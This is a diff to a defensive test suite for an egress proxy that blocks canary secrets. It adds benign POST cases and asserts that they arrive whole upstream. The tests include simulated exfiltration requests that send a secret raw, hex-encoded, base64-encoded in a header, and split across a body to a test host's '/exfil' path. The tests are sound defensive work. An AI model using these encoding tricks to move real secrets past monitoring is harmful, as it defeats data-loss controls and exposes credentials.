@@ -37,6 +37,9 @@ def out(k, v):
     print(f"{k}={v}", flush=True)
 
 out("control", proxy("GET", "/hello"))
+# Benign bodies go through whole: small, chunked, and arriving late.
+out("post_small", proxy("POST", "/echo-small", body="benign=1"))
+out("post_chunked", proxy("POST", "/echo-chunked", body=iter([b"ab", b"cd"])))
 out("line_raw", proxy("GET", "/exfil?k=" + url))
 out("line_hex", proxy("GET", "/exfil/" + hexed))
 out("header_b64", proxy("GET", "/exfil", headers={"X-Data": b64}))
@@ -47,10 +50,10 @@ out("body_split_b64", proxy("POST", "/exfil", body=("{\"d\": \"" + b64 + "\"}").
 
 # The head first, the body with the value a moment later: the upstream
 # must not see even the head.
-def proxy_late(body):
+def proxy_late(body, path="/exfil"):
     try:
         s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
-        s.sendall(b"POST http://api.test:8080/exfil HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n")
+        s.sendall(b"POST http://api.test:8080" + path.encode() + b" HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n")
         import time; time.sleep(0.3)
         s.sendall(body)
         data = b""
@@ -64,6 +67,7 @@ def proxy_late(body):
         return "error " + type(e).__name__
 
 out("body_late", proxy_late(("k=" + url).encode()))
+out("post_late", proxy_late(b"benign=late", "/echo-late"))
 
 # Capture path: a direct connection to api.test:8080 with the secret in the body.
 def capture(payload):
@@ -124,6 +128,9 @@ fn canaries_leaving_in_any_encoding_are_detected_and_blocked() {
         // The same paths work for benign traffic: a refusal below is the
         // canary's doing.
         assert_eq!(value_of(&run, "control"), "200", "{}", run.describe());
+        for k in ["post_small", "post_chunked", "post_late"] {
+            assert_eq!(value_of(&run, k), "200", "[{mode}] {k}\n{}", run.describe());
+        }
         assert!(
             value_of(&run, "capture_control").contains("200"),
             "{}",
@@ -199,6 +206,16 @@ fn canaries_leaving_in_any_encoding_are_detected_and_blocked() {
         !log.contains("/exfil"),
         "a request carrying a canary reached the upstream:\n{log}"
     );
+    for (path, body) in [
+        ("/echo-small", "len=8 body=b'benign=1'"),
+        ("/echo-chunked", "len=4 body=b'abcd'"),
+        ("/echo-late", "len=11 body=b'benign=late'"),
+    ] {
+        assert!(
+            log.lines().any(|l| l.contains(path) && l.contains(body)),
+            "{path} did not arrive whole:\n{log}"
+        );
+    }
     // The large body was cut before the value (at byte 70,000) left.
     for line in log.lines().filter(|l| l.contains("/partial")) {
         let len: usize = line
